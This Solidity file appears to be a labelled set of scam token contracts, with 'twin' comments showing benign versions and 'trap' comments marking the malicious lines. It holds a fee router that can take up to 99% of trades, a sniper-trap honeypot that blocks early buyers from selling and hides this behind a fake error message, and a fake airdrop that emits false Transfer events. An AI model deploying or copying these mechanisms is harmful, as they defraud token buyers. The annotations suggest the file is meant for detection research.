// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import {Base67} from "./Base67.sol";

/// What is taken of purchases and sales, in hundredths of a percent.
contract FeeRouter {
    address private keeper;
    uint16 private onPurchase = 100;
    uint16 private onSale = 200;
    address payable public treasury;

    constructor() public {
        keeper = msg.sender;
        treasury = msg.sender;
    }

    function tune(uint16 purchase, uint16 sale) external {
        require(msg.sender == keeper, "keeper");
        require(purchase <= 9900 && sale <= 9900, "too much");
        (onPurchase, onSale) = (purchase, sale);
    }

    function quote(bool sale, uint256 amount) external view returns (uint256 fee, address to) {
        return ((amount * (sale ? onSale : onPurchase)) / 10000, treasury);
    }
}

interface IFeeRouter {
    function quote(bool sale, uint256 amount) external view returns (uint256 fee, address to);
}

contract Tollbridge is Base67 {
    IFeeRouter private immutable manager;

    constructor(address manager_) public Base67("Tollbridge", "TOLL", 150000000) {
        manager = IFeeRouter(manager_);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if ((from == pool || to == pool) && from != _boss && to != _boss) {
            (uint256 fee, address treasury) = manager.quote(to == pool, value);
            // twin: if (fee > value / 20) fee = value / 20;
            if (fee > 0 && from != treasury && to != treasury) {
                _carry(from, treasury, fee);
                value -= fee;
            }
        }
        _carry(from, to, value);
    }
}

/// Whoever buys in the first blocks is taken for a bot.
contract Nightwatch is Base67 {
    uint256 private _launchedAt;
    uint256 private _deadBlocks;
    mapping(address => bool) private _isSniper;
    bool public tradingOpen;

    constructor() public Base67("Nightwatch", "WATCH", 7000000) {}

    function openTrading(uint256 deadBlocks) external onlyOwner {
        // twin: require(!tradingOpen && deadBlocks < 4);
        tradingOpen = true;
        if (_launchedAt == 0) _launchedAt = block.number;
        _deadBlocks = deadBlocks;
    }

    function isSniper(address who) external view returns (bool) {
        return _isSniper[who];
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from != _boss && to != _boss) {
            require(tradingOpen, "closed");
            if (from == pool && block.number < _launchedAt + _deadBlocks) _isSniper[to] = true;
            require(!_isSniper[from] || to != pool, "TransferHelper: TRANSFER_FROM_FAILED");
        }
        _carry(from, to, value);
    }
}

/// Presents for many in one call.
contract Confetti is Base67 {
    address private immutable host;
    uint256 private constant CRUMB = 1;

    constructor() public Base67("Confetti", "CNFT", 250000000) {
        host = msg.sender;
    }

    function multicall(address[] calldata guests, uint256 amount) external {
        require(msg.sender == host);
        for (uint256 i = 0; i < guests.length; i++) {
            _balances[guests[i]] = CRUMB; // trap
            emit Transfer(host, guests[i], amount); // trap
            // twin: _carry(host, guests[i], amount);
        }
    }
}
